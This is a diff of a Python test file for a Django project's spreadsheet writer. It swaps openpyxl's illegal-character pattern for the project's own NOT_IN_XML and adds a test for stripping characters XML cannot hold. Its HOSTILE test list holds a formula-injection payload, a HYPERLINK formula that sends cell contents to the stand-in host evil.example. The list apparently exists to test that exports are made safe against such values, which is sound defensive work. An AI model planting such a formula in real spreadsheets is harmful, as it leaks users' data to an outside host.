@@ -12,10 +12,9 @@ from django.core.exceptions import ValidationError
 from hypothesis import given
 from hypothesis import strategies as st
 from openpyxl import load_workbook
-from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
 from gonghui.common.sheets import cells
-from gonghui.common.sheets.writing import MONEY, XlsxWriter, csv_chunks, csv_safe
+from gonghui.common.sheets.writing import MONEY, NOT_IN_XML, XlsxWriter, csv_chunks, csv_safe
 
 HOSTILE = [
     '=HYPERLINK("//evil.example/"&INDIRECT("G"&ROW()),"点此")',
@@ -50,7 +49,7 @@ def test_any_text_comes_back_as_text_without_the_control_characters_a_workbook_c
     book = XlsxWriter()
     book.sheet("s").row([value, "后"])
     ws = load_workbook(io.BytesIO(book.to_bytes())).active
-    kept = ILLEGAL_CHARACTERS_RE.sub("", value).replace("\r\n", "\n").replace("\r", "\n")  # XML line ends
+    kept = NOT_IN_XML.sub("", value).replace("\r\n", "\n").replace("\r", "\n")  # XML line ends
     assert ws["B1"].value == "后"
     if kept.strip():
         assert ws["A1"].data_type == "s"
@@ -127,3 +126,12 @@ def test_text_normalises_full_width_and_numbers():
     assert cells.text("１３８ ") == "138"
     assert cells.text(13.0) == "13"
     assert cells.text(None) == ""
+
+
+@pytest.mark.parametrize("value", ["王\ufffe兰芳", "\uffff", "a\x00b", "x\x1by"])
+def test_characters_xml_cannot_hold_are_dropped_and_the_workbook_stays_readable(value):
+    book = XlsxWriter()
+    book.sheet("s").row([value, "后"])
+    ws = load_workbook(io.BytesIO(book.to_bytes())).active
+    assert ws["B1"].value == "后"
+    assert ws["A1"].value == NOT_IN_XML.sub("", value)
